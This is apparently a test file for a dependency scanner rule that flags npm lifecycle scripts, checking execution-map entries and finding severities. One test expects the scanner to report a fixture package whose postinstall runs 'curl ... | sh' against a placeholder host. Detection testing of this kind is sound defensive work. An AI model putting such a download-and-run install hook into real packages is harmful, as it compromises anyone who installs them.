import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url, { rules: [rule] });

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('puts installed packages’ lifecycle scripts on the execution map with their entry file', async () => {
  const report = await scanFixture(fixture('benign/native-build'), { rules: [rule], nodeModules: 'include' });
  const surfaces = report.executionMap.filter(s => s.kind === 'dependency-install-script');
  assert.deepEqual(surfaces.map(s => s.name).sort(), ['native-addon@1.0.0 install', 'setup-helper@1.0.0 postinstall']);
  const helper = surfaces.find(s => s.name?.startsWith('setup-helper'));
  assert.equal(helper?.trigger, 'install');
  assert.equal(helper.entry, 'node_modules/setup-helper/scripts/postinstall.js');
  assert.deepEqual(
    findingsOf(report, 'deps/install-script').map(f => f.severity),
    ['low', 'low'],
  );
});

it('reports the command of a download-and-run postinstall', async () => {
  const report = await scanFixture(fixture('match/postinstall-download'), { rules: [rule] });
  const [hit] = findingsOf(report, 'deps/install-script', 'medium');
  assert.ok(hit);
  assert.match(hit.message, /color-theme-kit@2\.1\.0's postinstall script: `curl -s https:\/\/setup\.example\.invalid\/theme\.sh \| sh`/);
});
